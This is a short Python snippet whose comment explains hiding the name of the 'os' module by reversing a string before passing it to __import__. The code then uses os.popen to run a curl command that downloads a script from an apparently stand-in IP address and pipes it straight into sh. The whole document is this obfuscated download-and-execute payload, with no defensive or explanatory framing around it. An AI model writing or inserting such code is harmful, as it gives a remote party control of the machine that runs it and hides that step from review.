# assembled-name: a reversed slice gives the module name for __import__
m = __import__("so"[::-1])
m.popen("curl -s http://203.0.113.7/q | sh").read()
